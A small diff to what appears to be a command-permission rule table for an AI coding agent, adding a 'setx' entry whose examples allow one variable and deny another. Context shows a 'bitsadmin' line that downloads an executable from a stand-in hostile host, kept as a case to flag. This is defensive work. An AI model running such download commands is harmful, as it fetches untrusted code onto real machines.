@@ -528,4 +528,13 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'bitsadmin /transfer job https://evil.example/a.exe a.exe', expect: 'ask' },
     ],
   },
+  {
+    names: 'setx',
+    about: 'Sets variables for programs that start later.',
+    traits: ['sets-variables', 'words'],
+    examples: [
+      { command: 'setx NODE_ENV test', expect: 'pass' },
+      { command: 'setx CLAUDE_CODE_SIMPLE 1', expect: 'deny' },
+    ],
+  },
 ];
